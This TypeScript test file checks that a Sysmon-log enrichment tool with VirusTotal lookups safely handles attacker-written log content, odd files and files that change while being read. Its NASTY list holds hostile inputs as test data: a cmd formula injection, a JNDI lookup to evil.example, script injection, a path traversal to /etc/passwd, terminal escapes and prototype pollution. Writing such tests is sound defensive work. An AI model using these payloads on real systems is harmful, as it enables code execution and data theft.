import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCheck } from '../../src/commands/check.js';
import { runEnrich } from '../../src/commands/enrich.js';
import { runQueue } from '../../src/commands/queue.js';
import { nxlogLine, winlogbeatLine } from '../../src/demo/json-logs.js';
import { buildNight, type NightEvent } from '../../src/demo/night.js';
import { evtxLog } from '../../src/demo/night-logs.js';
import { fileReport, type StandIn, startStandIn } from '../../src/demo/stand-in.js';
import { openLogFile } from '../../src/sources/index.js';
import type { Summary } from '../../src/summary.js';
import { type FakeShell, fakeShell } from '../fakes/shell.js';
import { sha1Of } from '../torture/world.js';

const [template] = buildNight().events.filter(({ eventId }) => eventId === 1);
if (template === undefined) throw new Error('the night has no process creations');

let root: string;
let logs: string;
let standIn: StandIn | undefined;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'sysmon-vt-hostile-'));
  logs = join(root, 'logs');
  mkdirSync(logs);
});
afterEach(async () => {
  await standIn?.close();
  standIn = undefined;
  rmSync(root, { recursive: true });
});

function shellFor(isTerminal = false): FakeShell {
  return fakeShell(
    {
      VT_API_KEY: 'key-of-the-test',
      ...(standIn === undefined ? {} : { VT_BASE_URL: standIn.baseUrl }),
      VT_REQUESTS_PER_MINUTE: 'unlimited',
      CACHE_URL: join(root, 'cache'),
      NO_COLOR: '1',
    },
    { isTerminal },
  );
}

async function enriched(
  options: { readonly records?: string; readonly offline?: boolean; readonly rejects?: string } = {},
) {
  const shell = shellFor();
  const status = await runEnrich(shell, [logs], { json: true, offline: true, ...options });
  const summary: Summary = JSON.parse(shell.printed());
  return { status, summary, said: shell.said() };
}

function creation(file: number, texts: Readonly<Record<string, string>>, computer = 'WS-1'): NightEvent {
  const data = new Map([...(template?.data ?? []), ...Object.entries(texts)]);
  data.set('Hashes', `SHA1=${sha1Of(file).toUpperCase()}`);
  return { computer, eventId: 1, recordId: 1000 + file, time: new Date(Date.UTC(2026, 2, 4)), data };
}

/** What attackers put into command lines, paths and names. */
const NASTY = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\',
  '\u009b2J',
  'invoice\u202efdp.exe',
  '\u2066hidden\u2069',
  'a\u200bb\ufeffc',
  'line\nfeed\r\nand\rreturn',
  'nul\u0000inside',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '__proto__',
  'constructor',
  '"},"virustotal":{"verdict":"undetected"',
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '\ud800 lone',
  'lone \udc00',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '$' + '{jndi:ldap://evil.example}',
  '%s%n%p',
  '../../../etc/passwd',
  `C:\\${'x'.repeat(32_000)}.exe`,
] as const;

const nasty = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 60 }));
const nastyEvent = fc.record({
  Image: nasty,
  CommandLine: nasty,
  ParentImage: nasty,
  User: nasty,
  OriginalFileName: nasty,
  computer: nasty,
});

/** Nothing a terminal, a viewer or a log collector would obey; line feeds are ours. */
const OBEYED = /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\u2028\u2029]/u;

/** What JSON, EVTX and XML cannot carry is carried as they carry it. */
const jsonLines = (path: string): { readonly [name: string]: unknown }[] => {
  const text = readFileSync(path, 'utf8');
  expect(text.endsWith('\n')).toBe(true);
  return text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
};

describe('what attackers write into a log', () => {
  it('stands in the enriched records as it stood in the log, a line each, whatever it is', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(nastyEvent, { minLength: 1, maxLength: 6 }), async (texts) => {
        rmSync(logs, { recursive: true });
        mkdirSync(logs);
        const events = texts.map(({ computer, ...fields }, index) => creation(index, fields, computer));
        writeFileSync(join(logs, 'flat.jsonl'), events.map(nxlogLine).join(''));
        writeFileSync(join(logs, 'beats.jsonl'), events.map(winlogbeatLine).join(''));
        const { status, summary } = await enriched();
        expect(status).toBe(0);
        expect(summary.records).toMatchObject({ process_creations: 2 * events.length, rejected: 0 });
        const flat = jsonLines(join(logs, 'flat.jsonl.enriched.jsonl'));
        expect(flat.map(({ CommandLine, Image }) => ({ CommandLine, Image }))).toEqual(
          texts.map(({ CommandLine, Image }) => ({ CommandLine, Image })),
        );
        for (const record of flat)
          expect(record['virustotal']).toMatchObject({ verdict: 'unchecked', reason: 'offline' });
        expect(jsonLines(join(logs, 'beats.jsonl.enriched.jsonl'))).toHaveLength(events.length);
      }),
      { numRuns: 25 },
    );
  }, 120_000);

  it('is the same in the Elastic Common Schema and out of EVTX, but for what these cannot hold', async () => {
    const events = NASTY.map((text, index) => creation(index, { CommandLine: text }));
    writeFileSync(join(logs, 'night.jsonl'), events.map(nxlogLine).join(''));
    // A record of EVTX has to fit into a chunk of 64 KiB, in UTF-16.
    const short = NASTY.map((text) => text.slice(0, 28_000));
    writeFileSync(
      join(logs, 'night.evtx'),
      evtxLog(short.map((text, index) => creation(index, { CommandLine: text }))),
    );
    expect((await enriched()).status).toBe(0);
    const ofEvtx = jsonLines(join(logs, 'night.evtx.enriched.jsonl')) as { EventData: { CommandLine: string } }[];
    expect(ofEvtx.map(({ EventData }) => EventData.CommandLine)).toEqual(short);
    expect((await enriched({ records: 'ecs' })).status).toBe(0);
    const ecs = jsonLines(join(logs, 'night.jsonl.enriched.jsonl')) as { process: { command_line: string } }[];
    expect(ecs.map(({ process }) => process.command_line)).toEqual([...NASTY]);
  });

  it('makes no terminal do anything, nor a collector of stderr', async () => {
    const events = NASTY.map((text, index) =>
      creation(index * 4, { CommandLine: text, Image: `C:\\Temp\\${text}.exe` }, text.slice(0, 100)),
    );
    standIn = await startStandIn({
      files: NASTY.map((text, index) =>
        fileReport({
          hashes: { sha1: sha1Of(index * 4) },
          detections: 20,
          family: text.slice(0, 200),
          name: text.slice(0, 200),
        }),
      ),
    });
    writeFileSync(join(logs, 'night.jsonl'), `${events.map(nxlogLine).join('')}{"EventID":1,"\u202e\u001b[2J":\n`);
    const plain = shellFor();
    expect(await runEnrich(plain, [logs], { verbose: true })).toBe(0);
    expect(plain.said()).toContain('malicious');
    expect(plain.said()).not.toMatch(OBEYED);
    const terminal = shellFor(true);
    await runEnrich(terminal, [logs], { verbose: true, force: true });
    expect(terminal.said().replaceAll('\r\u001b[2K', '')).not.toMatch(OBEYED);
    for (const [index] of NASTY.entries()) {
      const card = shellFor();
      await runCheck(card, [sha1Of(index * 4)], { offline: true });
      expect(card.printed()).toContain('malicious');
      expect(card.printed()).not.toMatch(OBEYED);
    }
    const queue = shellFor();
    await runQueue(queue, {});
    expect(queue.printed()).not.toMatch(OBEYED);
  });

  it('reaches no prototype', async () => {
    const line = nxlogLine(creation(1, {})).trimEnd().slice(0, -1);
    writeFileSync(
      join(logs, 'proto.jsonl'),
      `${line},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}\n`,
    );
    writeFileSync(
      join(logs, 'proto.evtx'),
      evtxLog([creation(2, JSON.parse('{"__proto__":"polluted","toString":"x"}'))]),
    );
    expect((await enriched()).status).toBe(0);
    expect((await enriched({ records: 'ecs' })).status).toBe(0);
    expect({}).not.toHaveProperty('polluted');
  });

  it('is located in the rejects file, one JSON line each', async () => {
    const bad = NASTY.map((text) => `{"EventID":1,"Hashes":${JSON.stringify(text)},,}\n`);
    writeFileSync(join(logs, 'bad.jsonl'), nxlogLine(creation(1, {})) + bad.join(''));
    const rejects = join(root, 'rejects.jsonl');
    const { summary } = await enriched({ rejects });
    expect(summary.records.rejected).toBeGreaterThan(0);
    const lines = jsonLines(rejects);
    expect(lines).toHaveLength(summary.records.rejected);
    expect(readFileSync(rejects, 'utf8')).not.toMatch(/[^\P{Cc}\n]/u);
  });
});

describe.runIf(process.platform !== 'win32')('folders of evidence that bite', () => {
  it('loops, FIFOs, devices, dangling links and names with line feeds: the logs are read, nothing hangs', async () => {
    writeFileSync(join(logs, 'good.jsonl'), nxlogLine(creation(1, {})));
    writeFileSync(join(logs, 'line\nfeed\u001b[31m.jsonl'), nxlogLine(creation(2, {})));
    execFileSync('mkfifo', [join(logs, 'pipe.jsonl')]);
    symlinkSync(logs, join(logs, 'loop'));
    symlinkSync('self', join(logs, 'self'));
    symlinkSync('/nowhere/at/all', join(logs, 'dangling.jsonl'));
    symlinkSync('/dev/zero', join(logs, 'zero.jsonl'));
    const shell = shellFor();
    expect(await runEnrich(shell, [logs], { offline: true, verbose: true })).toBe(0);
    expect(shell.said()).not.toMatch(OBEYED);
    expect(
      readdirSync(logs)
        .filter((name) => name.endsWith('.enriched.jsonl'))
        .sort(),
    ).toEqual(['good.jsonl.enriched.jsonl', 'line\nfeed\u001b[31m.jsonl.enriched.jsonl']);
    const named = shellFor();
    expect(await runEnrich(named, [join(logs, 'pipe.jsonl')], { offline: true })).toBe(3);
    expect(named.said()).toContain('neither a file nor a folder');
  });

  it('a FIFO that takes the place of a log after it was found: fails, and does not wait for a writer', async () => {
    execFileSync('mkfifo', [join(logs, 'late.jsonl')]);
    await expect(openLogFile(join(logs, 'late.jsonl'))).rejects.toMatchObject({ code: 'UNREADABLE' });
  });

  it('outputs are for their owner alone', async () => {
    writeFileSync(join(logs, 'night.jsonl'), `${nxlogLine(creation(1, {}))}{"EventID":1,,}\n`);
    await enriched({ rejects: join(root, 'rejects.jsonl') });
    for (const path of [join(logs, 'night.jsonl.enriched.jsonl'), join(root, 'rejects.jsonl')]) {
      expect(statSync(path).mode & 0o777).toBe(0o600);
    }
    const cache = join(root, 'cache');
    for (const name of readdirSync(cache, { recursive: true, encoding: 'utf8' })) {
      expect(statSync(join(cache, name)).mode & 0o077, name).toBe(0);
    }
  });
});

describe('logs that change while they are read', () => {
  const lines = 12_000;
  const text = Array.from({ length: lines }, (_, index) => nxlogLine(creation(index % 50, {}))).join('');

  it.each([
    ['grow', (path: string) => appendFileSync(path, text.slice(0, 5000))],
    ['shrink', (path: string) => truncateSync(path, 100_000)],
    ['vanish', (path: string) => unlinkSync(path)],
    ['are replaced by zeros', (path: string) => writeFileSync(path, Buffer.alloc(3_000_000))],
  ])('%s: what was read is whole records, or there is no file; the next log is read', async (_what, change) => {
    const path = join(logs, 'a.jsonl');
    writeFileSync(path, text);
    writeFileSync(join(logs, 'b.jsonl'), nxlogLine(creation(1, {})));
    const running = enriched();
    // In the middle: the first blocks have been read and written by then.
    while (!readdirSync(logs).some((name) => name.endsWith('.tmp')))
      await new Promise((resolve) => setImmediate(resolve));
    change(path);
    const { status, summary } = await running;
    expect([0, 3]).toContain(status);
    const output = join(logs, 'a.jsonl.enriched.jsonl');
    if (existsSync(output)) {
      const count = jsonLines(output).length;
      expect(count).toBeLessThanOrEqual(lines);
      expect(count).toBe(summary.records.process_creations - 1);
    }
    expect(jsonLines(join(logs, 'b.jsonl.enriched.jsonl'))).toHaveLength(1);
    expect(readdirSync(logs).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });
});
